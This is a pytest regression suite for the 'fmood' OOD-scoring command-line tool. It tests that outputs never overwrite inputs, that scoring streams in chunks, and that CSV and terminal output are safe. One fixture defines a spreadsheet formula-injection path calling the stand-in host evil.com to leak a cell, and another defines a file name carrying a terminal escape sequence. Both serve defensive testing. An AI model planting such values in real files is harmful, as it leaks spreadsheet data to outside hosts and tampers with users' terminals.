"""Outputs never destroy user data, ``fmood score`` streams, and CSV / terminal text is safe.

Each test reproduces a bug a hostile tester found (see the docstrings).
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from synthetic import clustered

from fmood.calibration.detector import OODDetector
from fmood.cli import score as score_command
from fmood.cli.main import main
from fmood.store import FeatureStore
from fmood.utils.atomic import OUTPUTS_LEDGER

EVIL_PATH = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
#: A file name that would clear the terminal if printed raw.
ESCAPE_PATH = "scan\x1b[2J.png"


def run(capsys, *argv: object) -> tuple[int, str, str]:
    code = main([str(a) for a in argv])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def make_store(path: Path, X: np.ndarray, paths: list[str] | None = None) -> Path:
    store = FeatureStore.create(path, X.shape[1])
    paths = paths or [f"img{i:03d}.png" for i in range(len(X))]
    store.add(X, {"path": paths, "patient": [f"p{i // 3}" for i in range(len(X))]})
    return path


@pytest.fixture(scope="module")
def files(tmp_path_factory) -> dict[str, Path]:
    """A reference .npy and store, a detector, a target .npy, and a store with hostile paths."""
    root = tmp_path_factory.mktemp("outputs")
    np.save(root / "reference.npy", clustered(200, seed=0))
    target = np.concatenate([clustered(60, seed=1), clustered(40, shift=6.0, seed=2)])
    target[60, 1] += 40.0  # the two most OOD rows
    target[61, 1] += 30.0
    np.save(root / "target.npy", target)
    assert main(["fit", str(root / "reference.npy"), "--out", str(root / "detector")]) == 0
    hostile = [f"img{i:03d}.png" for i in range(len(target))]
    hostile[60], hostile[61] = EVIL_PATH, ESCAPE_PATH
    return {
        "root": root,
        "reference": root / "reference.npy",
        "target": root / "target.npy",
        "detector": root / "detector",
        "reference_store": make_store(root / "reference_store", clustered(90, seed=3)),
        "hostile_store": make_store(root / "hostile_store", target, hostile),
    }


@pytest.fixture
def target(files, tmp_path) -> Path:
    """A copy of the target .npy for a test that may destroy it."""
    copy = tmp_path / "target.npy"
    shutil.copyfile(files["target"], copy)
    return copy


def snapshot(path: Path) -> dict[str, bytes]:
    """Every file under ``path`` (or ``path`` itself) with its bytes."""
    if path.is_file():
        return {path.name: path.read_bytes()}
    return {
        str(p.relative_to(path)): p.read_bytes() for p in sorted(path.rglob("*")) if p.is_file()
    }


# -- 1. an output is never an input -------------------------------------------------------


def test_score_refuses_to_write_over_its_target(files, target, capsys):
    """Regression: ``fmood score t.npy --out t.npy`` overwrote the target with the CSV."""
    before = snapshot(target)
    code, _, err = run(capsys, "score", target, "--detector", files["detector"], "--out", target)
    assert code == 2 and "is the input" in err and len(err.splitlines()) == 1
    assert snapshot(target) == before


@pytest.mark.parametrize("alias", ["hard_link", "symlink", "dotted"])
def test_score_sees_through_a_second_name_of_its_target(files, target, capsys, tmp_path, alias):
    if alias == "hard_link":
        other = tmp_path / "same.npy"
        os.link(target, other)
    elif alias == "symlink":
        other = tmp_path / "link.npy"
        other.symlink_to(target)
    else:
        (tmp_path / "sub").mkdir()
        other = tmp_path / "sub" / ".." / target.name
    before = target.read_bytes()
    code, _, err = run(capsys, "score", target, "--detector", files["detector"], "--out", other)
    assert code == 2 and "is the input" in err
    assert target.read_bytes() == before


def test_score_refuses_to_write_into_its_store_or_detector(files, capsys, tmp_path):
    store = shutil.copytree(files["hostile_store"], tmp_path / "store")
    detector = shutil.copytree(files["detector"], tmp_path / "detector")
    before = snapshot(store), snapshot(detector)
    for out in (store / "vectors.f32", store / "scores.csv", detector / "arrays.npz"):
        code, _, err = run(capsys, "score", store, "--detector", detector, "--out", out)
        assert code == 2 and ("is the input" in err or "lies inside the input" in err), err
    assert (snapshot(store), snapshot(detector)) == before


def test_distance_refuses_a_json_over_an_input(files, target, capsys):
    """Regression: ``fmood distance ref.npy tgt.npy --json tgt.npy`` overwrote the target."""
    before = snapshot(target)
    code, _, err = run(
        capsys, "distance", files["reference"], target, "--json", target, "--bootstrap", 0
    )
    assert code == 2 and "--json" in err and "is the input" in err
    assert snapshot(target) == before


def test_fit_and_neighbors_refuse_an_output_in_or_over_an_input(files, target, capsys):
    store = files["reference_store"]
    before = snapshot(store), snapshot(target)
    code, _, err = run(capsys, "fit", store, "--out", store / "detector")
    assert code == 2 and "lies inside the input" in err
    code, _, err = run(capsys, "neighbors", "--store", store, "--query", target, "--csv", target)
    assert code == 2 and "--csv" in err and "is the input" in err
    assert (snapshot(store), snapshot(target)) == before


def test_report_and_compare_refuse_an_out_that_holds_an_input(files, capsys, tmp_path):
    old = tmp_path / "old_report"
    assert (
        run(
            capsys,
            "report",
            "--reference",
            files["reference_store"],
            "--target",
            files["hostile_store"],
            "--out",
            old,
            "--no-progress",
        )[0]
        == 0
    )
    # The earlier report's scores.csv as a target: replacing old_report would delete it.
    manifest = old / "scores.csv"
    before = snapshot(old)
    code, _, err = run(
        capsys,
        "report",
        "--reference",
        files["reference_store"],
        "--target",
        manifest,
        "--out",
        old,
        "--no-progress",
    )
    assert code == 2 and "holds the input" in err
    code, _, err = run(
        capsys,
        "compare",
        "--backbones",
        "efficientnet-lite0",
        "--reference",
        manifest,
        "--target",
        manifest,
        "--out",
        old,
        "--no-progress",
    )
    assert code == 2 and "holds the input" in err
    code, _, err = run(
        capsys,
        "report",
        "--reference",
        files["reference_store"],
        "--target",
        files["hostile_store"],
        "--out",
        tmp_path / "new",
        "--store-root",
        tmp_path / "new" / "embeddings",
        "--no-progress",
    )
    assert code == 2 and "--store-root" in err and not (tmp_path / "new").exists()
    assert snapshot(old) == before


# -- 2. a replaced directory holds nothing of the user's ----------------------------------


def no_fitting(*args, **kwargs):
    raise AssertionError("fitted before checking --out")


def test_report_keeps_a_folder_holding_only_a_look_alike_summary(
    files, capsys, tmp_path, monkeypatch
):
    """Regression: a folder with a fake summary.json was taken for a report and wiped."""
    monkeypatch.setattr(OODDetector, "fit", no_fitting)  # refused before the work
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "summary.json").write_text(json.dumps({"format": "fmood.report"}))
    code, _, err = run(
        capsys,
        "report",
        "--reference",
        files["reference_store"],
        "--target",
        files["hostile_store"],
        "--out",
        mine,
        "--no-progress",
    )
    assert code == 2 and "did not write (summary.json)" in err
    assert [p.name for p in mine.iterdir()] == ["summary.json"]


def test_fit_keeps_a_look_alike_detector_folder_and_checks_before_fitting(
    files, capsys, tmp_path, monkeypatch
):
    """Regression: ``fit --out`` wiped a folder holding a detector.json it did not write, and
    checked only after minutes of fitting."""
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "detector.json").write_text("{}")
    (mine / "notes.txt").write_text("mine")
    monkeypatch.setattr(OODDetector, "fit", no_fitting)
    code, _, err = run(capsys, "fit", files["reference"], "--out", mine)
    assert code == 2 and "did not write (detector.json, notes.txt)" in err, err
    assert snapshot(mine) == {"detector.json": b"{}", "notes.txt": b"mine"}


def test_an_extra_user_file_in_an_old_report_survives_and_a_rerun_replaces_it(
    files, capsys, tmp_path, monkeypatch
):
    out = tmp_path / "report"
    argv = (
        "report",
        "--reference",
        files["reference_store"],
        "--target",
        files["hostile_store"],
        "--out",
        out,
        "--no-progress",
    )
    assert run(capsys, *argv)[0] == 0
    assert run(capsys, *argv)[0] == 0  # a second run into its own earlier output
    assert {p.name for p in out.iterdir()} == {
        "report.html",
        "scores.csv",
        "summary.json",
        OUTPUTS_LEDGER,
    }
    (out / "notes.txt").write_text("mine")
    before = snapshot(out)
    monkeypatch.setattr(OODDetector, "fit", no_fitting)  # refused before the work
    code, _, err = run(capsys, *argv)
    assert code == 2 and "notes.txt" in err
    assert snapshot(out) == before


def test_fit_replaces_its_own_earlier_detector(files, capsys, tmp_path):
    out = tmp_path / "detector"
    assert run(capsys, "fit", files["reference"], "--out", out)[0] == 0
    code, _, err = run(capsys, "fit", files["reference"], "--out", out, "--seed", 1)
    assert code == 0, err
    assert OODDetector.load(out).random_state == 1


# -- 4. CSV cells cannot run as formulas; printed names cannot drive the terminal ------------


def test_score_csv_quotes_a_formula_path_and_the_terminal_sees_escapes(files, capsys, tmp_path):
    """Regression: a metadata path ``=HYPERLINK(...)`` ran as a formula in the score CSV, and
    a path holding an escape sequence cleared the terminal when printed."""
    out = tmp_path / "scores.csv"
    code, printed, err = run(
        capsys, "score", files["hostile_store"], "--detector", files["detector"], "--out", out
    )
    assert code == 0, err
    paths = pd.read_csv(out)["path"]
    assert paths[60] == "'" + EVIL_PATH and paths[61] == ESCAPE_PATH and paths[0] == "img000.png"
    assert "\x1b" not in printed and "scan\\x1b[2J.png" in printed


def test_report_scores_csv_quotes_a_formula_path(files, capsys, tmp_path):
    """Regression: the same path came out raw in the report's scores.csv."""
    out = tmp_path / "report"
    code, _, err = run(
        capsys,
        "report",
        "--reference",
        files["reference_store"],
        "--target",
        files["hostile_store"],
        "--out",
        out,
        "--no-progress",
    )
    assert code == 0, err
    scores = pd.read_csv(out / "scores.csv").set_index("target_id")
    assert scores.loc[60, "path"] == "'" + EVIL_PATH
    assert (scores["degree"] >= 0).all()  # numbers stay numbers


def test_neighbors_csv_quotes_a_formula_path(files, capsys, tmp_path):
    out = tmp_path / "neighbors.csv"
    query = tmp_path / "query.npy"
    np.save(query, np.load(files["target"])[60:62])
    code, printed, err = run(
        capsys,
        "neighbors",
        "--store",
        files["hostile_store"],
        "--query",
        query,
        "-k",
        3,
        "--csv",
        out,
    )
    assert code == 0, err
    paths = set(pd.read_csv(out)["path"])
    assert "'" + EVIL_PATH in paths and EVIL_PATH not in paths
    assert "\x1b" not in printed and "scan\\x1b[2J.png" in printed


# -- 3. fmood score streams -----------------------------------------------------------------


def test_chunked_score_equals_one_assessment_of_the_whole_target(
    files, capsys, tmp_path, monkeypatch
):
    """Scored 7 rows at a time, the CSV equals ``assess`` on all rows (flags across chunks)."""
    monkeypatch.setattr(score_command, "CHUNK_ROWS", 7)
    out = tmp_path / "scores.csv"
    code, printed, err = run(
        capsys,
        "score",
        files["hostile_store"],
        "--detector",
        files["detector"],
        "--out",
        out,
        "--alpha",
        0.2,
    )
    assert code == 0, err
    expected = OODDetector.load(files["detector"]).assess(np.load(files["target"]), alpha=0.2)
    table = pd.read_csv(out)
    assert table["row"].tolist() == list(range(100))
    # float32 matrix products round differently on 7 rows than on 100: compare to 1e-5.
    pd.testing.assert_frame_equal(table[expected.columns], expected, check_exact=False, rtol=1e-5)
    assert 0 < table["flagged"].sum() < 100
    assert f"flagged at FDR 0.2: {expected['flagged'].sum()} of 100" in printed


def test_chunked_score_names_every_non_finite_row(files, capsys, tmp_path, monkeypatch):
    monkeypatch.setattr(score_command, "CHUNK_ROWS", 7)
    X = np.load(files["target"])
    X[[3, 50, 99]] = np.nan
    np.save(tmp_path / "bad.npy", X)
    out = tmp_path / "scores.csv"
    code, _, err = run(
        capsys, "score", tmp_path / "bad.npy", "--detector", files["detector"], "--out", out
    )
    assert code == 2 and "in 3 row(s): 3, 50, 99" in err
    assert not out.exists() and sorted(p.name for p in tmp_path.iterdir()) == ["bad.npy"]


# VmHWM, not getrusage: Linux carries ru_maxrss across exec, so a child would report the
# peak of the pytest process it was forked from.
_PEAK_RSS = textwrap.dedent("""
    import sys
    from fmood.cli.main import main
    assert main(["score", sys.argv[1], "--detector", sys.argv[2], "--out", sys.argv[3]]) == 0
    status = open("/proc/self/status").read()
    print(next(line.split()[1] for line in status.splitlines() if line.startswith("VmHWM:")))
""")


@pytest.mark.skipif(not os.path.exists("/proc/self/status"), reason="reads Linux's VmHWM")
def test_score_memory_does_not_grow_with_the_target(tmp_path):
    """Regression: ``fmood score`` read the whole target into memory (1M x 768: 4 GB)."""
    np.save(tmp_path / "reference.npy", clustered(500, d=64, seed=0))
    assert main(["fit", str(tmp_path / "reference.npy"), "--out", str(tmp_path / "det")]) == 0
    peaks = []
    for n in (20_000, 220_000):
        target = tmp_path / f"target_{n}.npy"
        np.save(target, np.resize(clustered(1000, d=64, seed=5), (n, 64)))
        done = subprocess.run(
            [
                sys.executable,
                "-c",
                _PEAK_RSS,
                str(target),
                str(tmp_path / "det"),
                str(tmp_path / "scores.csv"),
            ],
            capture_output=True,
            text=True,
            check=True,
        )
        peaks.append(int(done.stdout.split()[-1]) / 1024)  # kB -> MB
        target.unlink()
    # Read whole, the 200,000 more rows add 51 MB of target and as much of table; streamed,
    # a few floats per row (about 12 MB).
    assert peaks[1] - peaks[0] < 30, peaks
